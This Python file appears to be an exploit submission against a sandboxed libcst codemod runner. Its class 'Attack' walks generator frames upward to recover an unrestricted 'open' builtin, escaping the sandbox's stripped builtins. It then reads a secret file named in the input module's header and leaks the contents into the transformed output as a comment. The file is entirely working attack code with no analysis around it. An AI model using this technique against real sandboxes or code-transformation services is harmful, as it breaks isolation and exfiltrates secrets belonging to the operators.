"""Climb from the frame of a running generator to that of the engine, whose builtins are whole."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def climb(running):
    frame = running[0].gi_frame
    while "open" not in frame.f_builtins:
        frame = frame.f_back
    yield frame.f_builtins["open"]


def read(path):
    running = []
    running.append(climb(running))
    return next(running[0])(path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a generator."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
